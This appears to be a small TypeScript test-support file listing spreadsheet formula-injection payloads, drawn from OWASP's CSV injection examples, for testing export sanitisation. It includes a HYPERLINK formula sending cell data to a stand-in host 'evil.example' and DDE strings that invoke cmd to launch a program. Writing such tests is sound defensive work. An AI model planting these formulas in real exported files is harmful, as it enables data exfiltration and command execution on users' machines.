// Test support: cell texts a spreadsheet would run as formulas (OWASP's CSV injection examples, the report,
// and the leading characters some spreadsheets drop before looking for a formula).
export const formulaPayloads: readonly string[] = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '  =1+1',
  '=1+1',
];
